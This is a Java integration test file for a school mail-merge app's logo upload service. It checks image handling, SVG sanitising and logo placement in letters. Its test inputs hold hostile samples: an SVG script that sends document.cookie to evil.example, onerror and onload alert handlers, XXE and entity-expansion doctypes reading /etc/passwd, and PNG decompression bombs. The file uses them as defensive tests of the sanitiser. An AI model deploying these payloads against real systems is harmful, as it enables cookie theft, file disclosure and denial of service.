package fr.publipostage.customisation;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import fr.publipostage.App;
import fr.publipostage.directory.DemoDirectory;
import fr.publipostage.letters.LetterEngine;
import fr.publipostage.selection.Scope;
import fr.publipostage.selection.Selection;
import fr.publipostage.testing.TestDatabase;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import javax.imageio.ImageIO;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.graphics.PDXObject;
import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

class LogoServiceIT {
    /** Long side of the letters' copy. */
    private static final int SIDE = LogoLimits.DEFAULT.lettersSide();
    private static TestDatabase.Fresh db;
    private static App app;
    private static LogoService logos;
    private static long lyceeId;
    private static long collegeId;

    @BeforeAll
    static void load() {
        db = TestDatabase.fresh();
        app = db.app();
        app.demo().loadIfEmpty();
        lyceeId = app.structureByUai(DemoDirectory.LYCEE_UAI).id();
        collegeId = app.structureByUai(DemoDirectory.COLLEGE_UAI).id();
        logos = app.logos();
    }

    @AfterAll
    static void close() {
        app.close();
    }

    @BeforeEach
    void noLogo() {
        logos.remove(lyceeId, "admin.reset");
        logos.remove(collegeId, "admin.reset");
    }

    private static String logoUrl(long structureId) {
        return app.structureByUai(structureId == lyceeId ? DemoDirectory.LYCEE_UAI : DemoDirectory.COLLEGE_UAI).logoUrl();
    }

    private static void refused(byte[] bytes, String key) {
        assertThatThrownBy(() -> logos.upload(lyceeId, bytes, "admin.logo"))
                .isInstanceOfSatisfying(LogoRejected.class, e -> assertThat(e.key()).isEqualTo(key));
        assertThat(logos.current(lyceeId)).as("nothing stored after a refusal").isEmpty();
        assertThat(logoUrl(lyceeId)).isNull();
        assertThat(app.messages().get("fr", key)).as("French text of " + key).doesNotStartWith("logo.").isNotBlank();
        assertThat(app.messages().get("en", key)).as("English text of " + key).doesNotStartWith("logo.").isNotBlank();
    }

    // --- accepted formats ---------------------------------------------------------------------------

    @Test
    void aPngIsStoredAndLettersGetASmallCopyWithoutItsMetadata() throws Exception {
        byte[] upload = withPngChunk(png(1200, 600, true), "tEXt", "Comment\0SECRET-PNG-TEXT");
        Logo logo = logos.upload(lyceeId, upload, "admin.logo");

        assertThat(logo.originalType()).isEqualTo("image/png");
        assertThat(logo.original()).isEqualTo(upload);
        assertThat(logo.originalWidth()).isEqualTo(1200);
        assertThat(logo.originalHeight()).isEqualTo(600);
        assertThat(logo.lettersType()).isEqualTo("image/png");
        assertThat(logo.width()).isEqualTo(SIDE);
        assertThat(logo.height()).isEqualTo(SIDE / 2);
        assertThat(new String(logo.lettersImage(), StandardCharsets.ISO_8859_1)).doesNotContain("SECRET", "tEXt");
        BufferedImage copy = ImageIO.read(new ByteArrayInputStream(logo.lettersImage()));
        assertThat(copy.getWidth()).isEqualTo(SIDE);
        assertThat(copy.getColorModel().hasAlpha()).as("transparency kept").isTrue();
        assertThat(copy.getRGB(0, 0) >>> 24).as("transparent corner").isZero();
        assertThat(logo.uploadedBy()).isEqualTo("admin.logo");
        assertThat(logo.uploadedAt()).isNotNull();

        assertThat(logoUrl(lyceeId)).isEqualTo(logo.dataUri()).startsWith("data:image/png;base64,");
        Logo stored = logos.current(lyceeId).orElseThrow();
        assertThat(stored.lettersImage()).isEqualTo(logo.lettersImage());
        assertThat(stored.original()).isEqualTo(upload);
        assertThat(app.audit().recent(lyceeId, 5)).anySatisfy(e -> {
            assertThat(e.action()).isEqualTo(LogoService.AUDIT_UPLOAD);
            assertThat(e.adminLogin()).isEqualTo("admin.logo");
            assertThat(e.details()).contains("image/png", "sha256");
        });
    }

    @Test
    void aJpegLosesItsExifAndStaysJpeg() throws Exception {
        byte[] upload = withExif(jpeg(2000, 1000), "SECRET-GPS-44.8378N-0.5792W");
        Logo logo = logos.upload(lyceeId, upload, "admin.logo");
        assertThat(logo.originalType()).isEqualTo("image/jpeg");
        assertThat(logo.lettersType()).isEqualTo("image/jpeg");
        assertThat(logo.width()).isEqualTo(SIDE);
        assertThat(logo.height()).isEqualTo(SIDE / 2);
        assertThat(new String(logo.lettersImage(), StandardCharsets.ISO_8859_1)).doesNotContain("SECRET", "Exif");
        assertThat(logo.lettersImage().length).isLessThanOrEqualTo(LogoLimits.DEFAULT.lettersMaxBytes());
        BufferedImage copy = ImageIO.read(new ByteArrayInputStream(logo.lettersImage()));
        assertThat(copy.getWidth()).isEqualTo(SIDE);
        assertThat(logoUrl(lyceeId)).startsWith("data:image/jpeg;base64,");
    }

    @Test
    void aNoisyPngIsShrunkUntilItsCopyFitsTheLettersBudget() throws Exception {
        BufferedImage noise = new BufferedImage(1000, 1000, BufferedImage.TYPE_INT_RGB);
        Random random = new Random(42);
        for (int y = 0; y < 1000; y++) for (int x = 0; x < 1000; x++) noise.setRGB(x, y, random.nextInt());
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ImageIO.write(noise, "png", out);
        // Noise does not compress: about 3 MB, over the upload limit, so upload a 300×300 crop of it.
        BufferedImage crop = noise.getSubimage(0, 0, 300, 300);
        out.reset();
        ImageIO.write(crop, "png", out);
        Logo logo = logos.upload(lyceeId, out.toByteArray(), "admin.logo");
        assertThat(logo.lettersImage().length).isLessThanOrEqualTo(LogoLimits.DEFAULT.lettersMaxBytes());
        assertThat(logo.width()).isLessThan(300).isEqualTo(logo.height());
    }

    @Test
    void anSvgIsSanitisedKeptAsTheOriginalAndRasterisedForLetters() throws Exception {
        String svg = resource("school.svg").replace("<title>",
                "<script>fetch('http://evil.example/'+document.cookie)</script>"
                        + "<foreignObject width=\"10\" height=\"10\"><body xmlns=\"http://www.w3.org/1999/xhtml\">"
                        + "<img src=\"x\" onerror=\"alert(1)\"/></body></foreignObject><title>")
                .replace("<rect x=\"0\"", "<rect onload=\"alert(2)\" x=\"0\"");
        Logo logo = logos.upload(lyceeId, svg.getBytes(StandardCharsets.UTF_8), "admin.logo");

        assertThat(logo.originalType()).isEqualTo("image/svg+xml");
        String stored = new String(logos.current(lyceeId).orElseThrow().original(), StandardCharsets.UTF_8);
        assertThat(stored.toLowerCase()).contains("<svg", "montesquieu")
                .doesNotContain("script", "onload", "onerror", "foreignobject", "evil.example", "alert", "cookie",
                        "sodipodi", "<!doctype");
        assertThat(logo.removed()).contains("script", "foreignObject", "onload");
        assertThat(logos.current(lyceeId).orElseThrow().removed()).isEqualTo(logo.removed());
        // 120 mm × 60 mm at 96 px per inch.
        assertThat(logo.originalWidth()).isEqualTo(454);
        assertThat(logo.originalHeight()).isEqualTo(227);
        assertThat(logo.lettersType()).isEqualTo("image/png");
        BufferedImage copy = ImageIO.read(new ByteArrayInputStream(logo.lettersImage()));
        assertThat(copy.getWidth()).isEqualTo(logo.width()).isEqualTo(SIDE);
        assertThat(copy.getHeight()).isEqualTo(logo.height()).isEqualTo(SIDE / 2);
        assertThat(logoUrl(lyceeId)).isEqualTo(logo.dataUri());
        assertThat(app.audit().recent(lyceeId, 5)).anySatisfy(e -> assertThat(e.details()).contains("removed", "script"));
    }

    // --- refusals -----------------------------------------------------------------------------------

    @Test
    void dangerousSvgsAreRefusedAndNothingIsStored() {
        String open = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"100\" height=\"50\">";
        refused(utf8(open + "<image xlink:href=\"https://tracker.example/pixel.png\" width=\"10\" height=\"10\"/></svg>"),
                "logo.svg.externalReference");
        refused(utf8(open + "<rect width=\"10\" height=\"10\" style=\"fill:url(file:///etc/passwd)\"/></svg>"),
                "logo.svg.externalReference");
        refused(utf8("<?xml version=\"1.0\"?>\n<!DOCTYPE svg [\n<!ENTITY lol \"lol\">\n"
                + "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n]>\n"
                + open + "<text>&lol2;</text></svg>"), "logo.svg.doctype");
        refused(utf8("<!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>" + open + "<text>&xxe;</text></svg>"),
                "logo.svg.doctype");
    }

    @Test
    void filesRenamedToPngAreRecognisedByTheirContent() throws IOException {
        refused(resourceBytes("page-renamed.png"), "logo.unsupportedFormat");
        refused(resourceBytes("program-renamed.png"), "logo.unsupportedFormat");
        ByteArrayOutputStream gif = new ByteArrayOutputStream();
        ImageIO.write(new BufferedImage(40, 40, BufferedImage.TYPE_INT_RGB), "gif", gif);
        refused(gif.toByteArray(), "logo.unsupportedFormat");
        refused(new byte[0], "logo.empty");
    }

    @Test
    void tooBigTooLargeTooSmallOrBrokenIsRefused() throws IOException {
        byte[] big = new byte[LogoLimits.DEFAULT.maxBytes() + 1];
        new Random(1).nextBytes(big);
        System.arraycopy(png(20, 20, false), 0, big, 0, 8);
        refused(big, "logo.tooBig");

        // A decompression bomb: the header claims 10 gigapixels. Refused from the header, at once.
        long t0 = System.nanoTime();
        refused(SvgSanitiserTest.pngHeader(100_000, 100_000), "logo.tooLarge");
        assertThat((System.nanoTime() - t0) / 1_000_000).isLessThan(2_000);
        refused(SvgSanitiserTest.pngHeader(4001, 100), "logo.tooLarge");

        refused(png(8, 8, true), "logo.tooSmall");
        refused(png(1000, 20, true), "logo.aspect");
        byte[] truncated = Arrays.copyOf(png(400, 200, true), 120);
        refused(truncated, "logo.unreadable");
    }

    @Test
    void aPngWithACompressedTextBombIsReadWithoutInflatingIt() throws Exception {
        // zTXt: 300 MB of zeros deflated to ~300 KB. Metadata is ignored when reading, so it is never inflated.
        ByteArrayOutputStream deflated = new ByteArrayOutputStream();
        try (var z = new java.util.zip.DeflaterOutputStream(deflated, new java.util.zip.Deflater(9))) {
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < 300; i++) z.write(zeros);
        }
        byte[] data = ByteBuffer.allocate(9 + deflated.size()).put("Comment\0\0".getBytes(StandardCharsets.ISO_8859_1))
                .put(deflated.toByteArray()).array();
        byte[] png = png(400, 200, true);
        byte[] chunk = SvgSanitiserTest.chunk("zTXt", data);
        byte[] bomb = ByteBuffer.allocate(png.length + chunk.length).put(png, 0, 33).put(chunk).put(png, 33, png.length - 33).array();
        assertThat(bomb.length).isLessThan(LogoLimits.DEFAULT.maxBytes());
        long t0 = System.nanoTime();
        Logo logo = logos.upload(lyceeId, bomb, "admin.logo");
        assertThat((System.nanoTime() - t0) / 1_000_000).isLessThan(3_000);
        assertThat(logo.width()).isEqualTo(SIDE);
    }

    // --- replace, remove ----------------------------------------------------------------------------

    @Test
    void aNewUploadReplacesTheOldAndRemovalClearsBoth() throws Exception {
        logos.upload(lyceeId, png(200, 100, true), "admin.first");
        Logo second = logos.upload(lyceeId, utf8(resource("school.svg")), "admin.second");
        assertThat(logos.current(lyceeId).orElseThrow().originalType()).isEqualTo("image/svg+xml");
        assertThat(logos.current(lyceeId).orElseThrow().uploadedBy()).isEqualTo("admin.second");
        assertThat(logoUrl(lyceeId)).isEqualTo(second.dataUri());
        assertThat(logos.current(collegeId)).as("the other school is untouched").isEmpty();

        assertThat(logos.remove(lyceeId, "admin.second")).isTrue();
        assertThat(logos.current(lyceeId)).isEmpty();
        assertThat(logoUrl(lyceeId)).isNull();
        assertThat(logos.remove(lyceeId, "admin.second")).as("nothing left to remove").isFalse();
        assertThat(app.audit().recent(lyceeId, 10)).filteredOn(e -> e.action().equals(LogoService.AUDIT_REMOVE)
                && e.adminLogin().equals("admin.second")).hasSize(1);
        assertThatThrownBy(() -> logos.upload(-1, png(200, 100, true), "admin.x"))
                .isInstanceOf(IllegalArgumentException.class);
    }

    // --- the real letters ---------------------------------------------------------------------------

    @Test
    void theSchoolsLettersShowTheLogoOnEveryPageAsOneSharedImageAndTheOtherSchoolsDoNot() throws Exception {
        Logo logo = logos.upload(lyceeId, png(800, 400, true), "admin.logo");
        // Reminder letters (activated accounts) carry no QR code: the logo is their only image.
        Map<String, List<String>> reminders = Map.of("profile", List.of("Personnel"), "activation", List.of("activated"));

        List<List<PDImageXObject>> lycee = imagesByPage(print(app.selections().parse(lyceeId, reminders)));
        assertThat(lycee.size()).isGreaterThanOrEqualTo(2);
        assertThat(lycee.get(0)).hasSize(1);
        PDImageXObject onPage1 = lycee.get(0).get(0);
        assertThat(onPage1.getWidth()).isEqualTo(logo.width());
        assertThat(onPage1.getHeight()).isEqualTo(logo.height());
        // One image object for the whole document (DESIGN.md §6), not one per letter.
        for (List<PDImageXObject> page : lycee) {
            assertThat(page).hasSize(1);
            assertThat(page.get(0).getCOSObject()).isSameAs(onPage1.getCOSObject());
        }

        List<List<PDImageXObject>> college = imagesByPage(print(app.selections().parse(collegeId, reminders)));
        assertThat(college).isNotEmpty();
        assertThat(college.get(0)).as("the other school has no logo").isEmpty();
    }

    private static byte[] print(Selection selection) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        app.letters().print(selection, Scope.LOCAL_ADMIN, "admin.logo", "test", out, LetterEngine.Progress.NONE);
        return out.toByteArray();
    }

    private static List<List<PDImageXObject>> imagesByPage(byte[] pdf) throws IOException {
        List<List<PDImageXObject>> pages = new ArrayList<>();
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            for (PDPage page : doc.getPages()) {
                List<PDImageXObject> images = new ArrayList<>();
                for (COSName name : page.getResources().getXObjectNames()) {
                    PDXObject x = page.getResources().getXObject(name);
                    if (x instanceof PDImageXObject image) images.add(image);
                }
                pages.add(images);
            }
        }
        return pages;
    }

    // --- samples ------------------------------------------------------------------------------------

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private String resource(String name) throws IOException {
        return new String(resourceBytes(name), StandardCharsets.UTF_8);
    }

    private byte[] resourceBytes(String name) throws IOException {
        try (InputStream in = getClass().getResourceAsStream("/logos/" + name)) {
            return in.readAllBytes();
        }
    }

    /** A blue disc with a red bar; transparent corners when {@code alpha}. */
    static byte[] png(int width, int height, boolean alpha) throws IOException {
        BufferedImage image = new BufferedImage(width, height, alpha ? BufferedImage.TYPE_INT_ARGB : BufferedImage.TYPE_INT_RGB);
        draw(image);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ImageIO.write(image, "png", out);
        return out.toByteArray();
    }

    private static byte[] jpeg(int width, int height) throws IOException {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        Graphics2D g = image.createGraphics();
        g.setColor(Color.WHITE);
        g.fillRect(0, 0, width, height);
        g.dispose();
        draw(image);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ImageIO.write(image, "jpeg", out);
        return out.toByteArray();
    }

    private static void draw(BufferedImage image) {
        Graphics2D g = image.createGraphics();
        g.setColor(new Color(0x1d4e89));
        g.fillOval(image.getWidth() / 4, 0, image.getHeight(), image.getHeight());
        g.setColor(new Color(0xc0392b));
        g.fillRect(image.getWidth() / 10, image.getHeight() * 2 / 5, image.getWidth() * 8 / 10, image.getHeight() / 5);
        g.dispose();
    }

    /** The PNG with one more chunk right after IHDR (signature 8 bytes + IHDR 25 bytes). */
    private static byte[] withPngChunk(byte[] png, String type, String text) {
        byte[] chunk = SvgSanitiserTest.chunk(type, text.getBytes(StandardCharsets.ISO_8859_1));
        return ByteBuffer.allocate(png.length + chunk.length).put(png, 0, 33).put(chunk).put(png, 33, png.length - 33).array();
    }

    /** The JPEG with an APP1 "Exif" segment right after SOI, holding a text like a GPS tag would. */
    private static byte[] withExif(byte[] jpeg, String secret) {
        byte[] tiff = ByteBuffer.allocate(8 + 2 + 4).put(new byte[] {'M', 'M', 0, 42, 0, 0, 0, 8}).putShort((short) 0)
                .putInt(0).array();
        byte[] payload = ByteBuffer.allocate(6 + tiff.length + secret.length()).put("Exif\0\0".getBytes(StandardCharsets.US_ASCII))
                .put(tiff).put(secret.getBytes(StandardCharsets.US_ASCII)).array();
        ByteBuffer b = ByteBuffer.allocate(jpeg.length + 4 + payload.length);
        b.put(jpeg, 0, 2).put((byte) 0xFF).put((byte) 0xE1).putShort((short) (payload.length + 2)).put(payload);
        b.put(jpeg, 2, jpeg.length - 2);
        return b.array();
    }
}
